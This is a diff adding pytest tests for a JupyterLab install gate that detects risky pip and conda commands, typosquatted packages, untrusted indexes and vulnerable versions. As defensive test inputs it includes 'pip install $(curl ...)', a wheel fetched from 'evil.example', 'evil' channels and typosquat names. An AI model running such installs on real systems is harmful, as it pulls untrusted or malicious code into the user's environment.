@@ -1,0 +1,258 @@
+"""What the install gate reads from a command: pure functions, no processes."""
+
+import os
+
+import pytest
+
+from jupyterlab_warden.kernel.guard.installs import arguments, commands, decide, sources
+from jupyterlab_warden.kernel.guard.installs.advisories import AdvisorySnapshot
+from jupyterlab_warden.kernel.guard.installs.data import DepsData
+from jupyterlab_warden.kernel.guard.installs.names import PopularNames, data_path
+from jupyterlab_warden.kernel.guard.installs.versions import version_key
+
+
+@pytest.fixture(scope="module")
+def data():
+    return DepsData()
+
+
+def _tools(argv):
+    return [(i.tool, i.args) for i in commands.invocations(argv)]
+
+
+@pytest.mark.parametrize(
+    ("argv", "expected"),
+    [
+        (["/opt/venv/bin/pip3.11", "install", "x"], [("pip", ["install", "x"])]),
+        (
+            ["python3", "-I", "-W", "ignore", "-m", "pip", "install", "x"],
+            [("pip", ["install", "x"])],
+        ),
+        (["python", "-mpip", "install", "x"], [("pip", ["install", "x"])]),
+        (["python", "-c", "import pip"], []),
+        (["/bin/sh", "-c", "cd /tmp && pip install x; echo ok"], [("pip", ["install", "x"])]),
+        (
+            ["bash", "-lc", "env -u HOME sudo -u ml nohup uv pip install y"],
+            [("uv", ["pip", "install", "y"])],
+        ),
+        (
+            ["sh", "-c", "sh -c 'mamba install -c evil z'"],
+            [("mamba", ["install", "-c", "evil", "z"])],
+        ),
+        (["uvx", "ruff"], [("uv", ["x", "ruff"])]),
+        (["git", "status"], []),
+        (["sh", "-c", "echo 'pip install x' > notes.txt"], []),
+        (["sh", "-c", "ls $HOME; pip list"], [("pip", ["list"])]),
+    ],
+)
+def test_installer_calls_are_found_in_argv_and_shell_strings(argv, expected):
+    assert _tools(argv) == expected
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "pip install $(curl -s http://x/list)",
+        "pip install `cat names`",
+        "P=pip; $P install x",
+        "pip install torc{h,j}",
+        "cat names | xargs pip install",
+        "eval pip install $NAME",
+        "pip install 'unterminated",
+    ],
+)
+def test_an_install_behind_an_expansion_is_unreadable(script):
+    with pytest.raises(commands.Unreadable):
+        commands.shell_invocations(script)
+
+
+def test_pip_long_options_resolve_by_unique_prefix_like_optparse(tmp_path):
+    request = arguments.pip_request(
+        ["install", "--extra-index", "https://x/simple", "y"], str(tmp_path), {}
+    )
+    assert [(s.url, s.role) for s in request.sources] == [("https://x/simple", "extra-index")]
+    unknown = arguments.pip_request(["install", "--frobnicate", "y"], str(tmp_path), {})
+    assert unknown.problems and "--frobnicate" in unknown.problems[0]
+    assert arguments.pip_request(["show", "torch"], str(tmp_path), {}) is None
+    assert arguments.pip_request(["-q", "list"], str(tmp_path), {}) is None
+
+
+def test_download_and_wheel_are_decided_like_install(tmp_path):
+    for command in ("download", "wheel"):
+        request = arguments.pip_request([command, "torcj"], str(tmp_path), {})
+        assert request.names() == ["torcj"]
+
+
+def test_requirements_files_follow_includes_options_and_env_vars(tmp_path):
+    (tmp_path / "sub").mkdir()
+    (tmp_path / "sub" / "base.txt").write_text(
+        "--extra-index-url https://corp/simple\nnumpy==1.26\n"
+    )
+    (tmp_path / "req.txt").write_text(
+        "-r sub/base.txt\n-c constraints.txt\ntorch>=2.6 ; python_version > '3.8'  # ML\n"
+        "pkg @ git+https://${GIT_HOST}/p.git\n-e ./local\n"
+    )
+    (tmp_path / "constraints.txt").write_text("scikit-lean==1.0\n")  # constrains, installs nothing
+    request = arguments.pip_request(
+        ["install", "-rreq.txt"], str(tmp_path), {"GIT_HOST": "git.corp"}
+    )
+    assert request.problems == []
+    assert [(r.name, r.kind) for r in request.requirements] == [
+        ("numpy", "name"), ("torch", "name"), ("pkg", "vcs"), (None, "path"),
+    ]  # fmt: skip
+    assert "git.corp" in request.requirements[2].text
+    assert [s.url for s in request.sources] == ["https://corp/simple"]
+
+
+def test_a_requirements_file_from_a_url_is_a_problem(tmp_path):
+    request = arguments.pip_request(["install", "-r", "https://x/req.txt"], str(tmp_path), {})
+    assert request.problems and "network" in request.problems[0]
+
+
+def test_pip_config_and_environment_indexes_are_sources(tmp_path):
+    home = tmp_path / "home"
+    (home / ".config" / "pip").mkdir(parents=True)
+    (home / ".config" / "pip" / "pip.conf").write_text(
+        "[global]\nindex-url = https://mirror.corp/simple\n[install]\nextra-index-url =\n"
+        "  https://a/simple\n  https://b/simple\n"
+    )
+    env = {
+        "HOME": str(home),
+        "XDG_CONFIG_DIRS": str(tmp_path),
+        "PIP_EXTRA_INDEX_URL": "https://c/simple",
+    }
+    request = arguments.pip_request(["install", "x"], str(tmp_path), env)
+    sources.add_implicit_sources(request, env, "/nonexistent/bin/python")
+    urls = {s.url for s in request.sources}
+    assert {
+        "https://mirror.corp/simple",
+        "https://a/simple",
+        "https://b/simple",
+        "https://c/simple",
+    } <= urls
+    env["PIP_CONFIG_FILE"] = "/dev/null"  # pip then reads no config file
+    request = arguments.pip_request(["install", "x"], str(tmp_path), env)
+    sources.add_implicit_sources(request, env, "/nonexistent/bin/python")
+    assert {s.url for s in request.sources} == {"https://c/simple", sources.DEFAULT_INDEX}
+
+
+def test_conda_channels_inline_and_from_environment_yml(tmp_path, data):
+    (tmp_path / "environment.yml").write_text(
+        "name: ml\nchannels:\n  - evil-channel\n  - conda-forge\ndependencies:\n  - numpy=1.26\n"
+        "  - pip:\n    - torcj\n"
+    )
+    request = arguments.conda_request(
+        "conda", ["env", "create", "-f", "environment.yml"], str(tmp_path), {}
+    )
+    assert [s.url for s in request.sources] == ["evil-channel", "conda-forge"]
+    assert request.names() == ["numpy", "torcj"]
+    rules = sorted(f.rule_id for f in decide.decide(request, {}, data))
+    assert rules == ["install-imitation-name", "install-index-not-allowed"]
+    inline = arguments.conda_request("mamba", ["install", "evil::numpy"], str(tmp_path), {})
+    assert [s.url for s in inline.sources] == ["evil"]
+
+
+def test_imitation_names_are_caught_and_real_packages_are_not():
+    popular = PopularNames.load(data_path("top-packages.txt"))
+    assert popular.imitated("torcj") == "torch"
+    assert popular.imitated("scikit-lean") == "scikit-learn"
+    assert popular.imitated("tranformers") == "transformers"
+    assert popular.imitated("Scikit_Lean") == "scikit-learn"  # normalized first
+    assert popular.imitated("nurnpy") == "numpy"  # rn looks like m
+    for real in (
+        "torchvision",
+        "scikit-learn",
+        "transformers",
+        "torchaudio",
+        "tokenizers",
+        "torch",
+    ):
+        assert popular.imitated(real) is None
+    assert popular.imitated("our-internal-feature-store") is None
+
+
+def test_versions_order_as_pep_440():
+    assert version_key("2.6") == version_key("2.6.0")
+    assert version_key("2.6.0rc1") < version_key("2.6.0") < version_key("2.6.0.post1")
+    assert version_key("2.6.0.dev1") < version_key("2.6.0a1")
+    assert version_key("2.13.0+cpu") == version_key("2.13.0")
+    assert version_key("not a version") is None
+
+
+def test_the_snapshot_flags_known_vulnerable_versions():
+    snapshot = AdvisorySnapshot.load(data_path("osv-snapshot.json"))
+    assert snapshot.affecting("torch", "2.5.1") == ["GHSA-53q9-r3pm-6pq6"]
+    assert snapshot.affecting("torch", "2.13.0+cpu") == []
+    assert snapshot.affecting("Keras", "3.8.0") == ["GHSA-48g7-3x6r-xfhp", "GHSA-c9rc-mg46-23w3"]
+    assert snapshot.affecting("keras", "2.15.0") == []
+    assert snapshot.affecting("skops", "0.12.0") == ["CVE-2025-54886"]
+    assert "GHSA-29pf-2h5f-8g72" in snapshot.affecting("transformers", "4.57.1")
+    assert snapshot.affecting("transformers", "5.3.0") == []
+    assert snapshot.affecting("torch", "garbage") == ["GHSA-53q9-r3pm-6pq6"]  # fail closed
+    assert [e["id"] for e in snapshot.malicious("AIOHTT")] == ["MAL-2023-1578"]
+
+
+def test_policy_lists_and_direct_references(data, tmp_path):
+    request = arguments.pip_request(
+        ["install", "leftpad", "https://download.pytorch.org/whl/cpu/torch-2.6.0-cp311-none-any.whl",
+         "https://evil.example/torch-2.6.0-py3-none-any.whl", "torch==2.5.1"],
+        str(tmp_path), {},
+    )  # fmt: skip
+    policy = {"dependencies": {"deny_packages": ["LeftPad"]}}
+    found = [(f.rule_id, f.subject) for f in decide.decide(request, policy, data)]
+    assert ("install-package-denied", "leftpad") in found
+    assert ("install-vulnerable-version", "torch==2.5.1") in found
+    direct = [s for r, s in found if r == "install-direct-reference"]
+    assert direct == [
+        "https://evil.example/torch-2.6.0-py3-none-any.whl"
+    ]  # under a trusted index: fine
+
+
+def test_missing_data_refuses_every_install(tmp_path):
+    broken = DepsData(snapshot_path=str(tmp_path / "missing.json"))
+    request = arguments.pip_request(["install", "numpy"], str(tmp_path), {})
+    assert [f.rule_id for f in decide.decide(request, {}, broken)] == ["install-unreadable"]
+
+
+def test_an_in_kernel_policy_cannot_loosen_the_install_settings():
+    old = {"dependencies": {"deny_packages": ["x"]}}
+    assert decide.looser(old, {}) == "dependencies.deny_packages"
+    assert decide.looser({}, {"trusted_sources": {"package_indexes": ["https://evil/simple"]}})
+    assert decide.looser({}, {"dependencies": {"allow_packages": ["torcj"]}})
+    assert decide.looser(old, {"dependencies": {"deny_packages": ["x", "y"]}}) is None
+
+
+def test_the_program_is_what_runs_not_what_argv0_says(tmp_path, data):
+    from jupyterlab_warden.kernel.guard.installs.gate import _process
+
+    argv, _env, _cwd, _shell = _process(
+        "subprocess.Popen", ("/usr/bin/pip", ["ls", "install", "torcj"], None, None)
+    )
+    assert commands.may_install(argv[0])
+    assert _tools(argv) == [("pip", ["install", "torcj"])]
+    link = tmp_path / "harmless-name"
+    link.symlink_to("/usr/bin/pip3")
+    assert commands.may_install(str(link))
+    assert _tools([str(link), "install", "x"]) == [("pip", ["install", "x"])]
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["timeout", "-s", "KILL", "60", "pip", "install", "x"],
+        ["su", "ml", "-c", "pip install x"],
+        ["busybox", "sh", "-c", "pip install x"],
+    ],
+)
+def test_more_wrappers_are_seen_through(argv):
+    assert _tools(argv) == [("pip", ["install", "x"])]
+
+
+def test_a_requirements_file_that_is_not_a_regular_file_is_not_read(tmp_path):
+    """-r /dev/stdin (a here-document) or a FIFO would block the kernel: refused instead."""
+    fifo = tmp_path / "reqs"
+    os.mkfifo(fifo)
+    for path in (str(fifo), "/dev/stdin"):
+        request = arguments.pip_request(["install", "-r", path], str(tmp_path), {})
+        assert len(request.problems) == 1, request.problems
+        assert "not a regular file" in request.problems[0]
